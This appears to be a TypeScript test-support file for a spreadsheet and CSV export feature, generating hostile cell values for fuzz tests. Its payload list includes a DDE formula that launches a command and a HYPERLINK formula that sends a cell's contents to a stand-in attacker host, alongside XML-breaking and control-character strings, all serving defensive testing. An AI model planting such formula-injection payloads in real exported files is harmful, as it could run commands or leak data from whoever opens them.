// Tables, rows and hostile cells for tests of what is written.
import type { Column, ColumnKind, Row } from '../../src/exports/column.ts'
import type { Batches, Pieces, Table } from '../../src/exports/formats/format.ts'
import type { Dice } from '../support/seed.ts'

const everywhere = (text: string) => ({ nl: text, fr: text, en: text })

export const columnOf = (name: string, kind: ColumnKind): Column => ({
  name,
  kind,
  title: { nl: `Titel ${name}`, fr: `Titre ${name}`, en: `Title ${name}` },
  about: everywhere(name),
  width: 12,
})

export const tableOf = (columns: readonly Column[], more: Partial<Table> = {}): Table => ({
  columns,
  culture: undefined,
  delimiter: 'semicolon',
  about: {
    title: 'VMEs',
    label: 'About',
    rowsLabel: 'Rows',
    lines: [
      ['Source', 'Register'],
      ['Licence', 'Terms of reuse'],
    ],
  },
  ...more,
})

export async function* inBatches(rows: readonly Row[], size = 7): Batches {
  for (let at = 0; at < rows.length; at += size) yield rows.slice(at, at + size)
}

export async function bytesOf(pieces: Pieces): Promise<Buffer> {
  const parts: Buffer[] = []
  for await (const piece of pieces) parts.push(Buffer.from(piece as string))
  return Buffer.concat(parts)
}

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t']
const blanks = ['', ' ', '   ', '\u00a0', '\u2003', '\u200b', '\ufeff', '\v']
const bodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"x")',
  '1+1',
  'SUM(1;2)',
  'a;b,c"d"',
  '</t></is></c>',
  ']]>',
  '&amp;',
  '_x000D_',
  '_x0041_ _X0041_ _x005F_',
  '\u0001\u0007\u001b\u007f\u0085',
  '\ufffe\uffff',
  '😀 é ß ̈ ‮',
  '\\.',
  '\\N',
  '""',
  "'",
  'NULL',
  '2001-02-03',
  '0123456789',
  '',
]
const ends = ['', '\n', '\r\n', '\r', '\n=1', '\r\n+1', '\r@x', '\n \u00a0-2', ';', '"', "'"]

/** What somebody might put into a name to have it do something. PostgreSQL stores neither NUL nor half a surrogate pair. */
export function hostileText(dice: Dice, { isStorable = false } = {}): string {
  const more = isStorable ? [] : ['\0', '\ud800', '\udc00x', '\0=1']
  const part = (): string =>
    dice.pick(blanks) +
    (dice.chance(0.6) ? dice.pick(signs) : '') +
    dice.pick([...bodies, ...more]) +
    dice.pick(ends)
  return dice.chance(0.3) ? part() + part() : part()
}
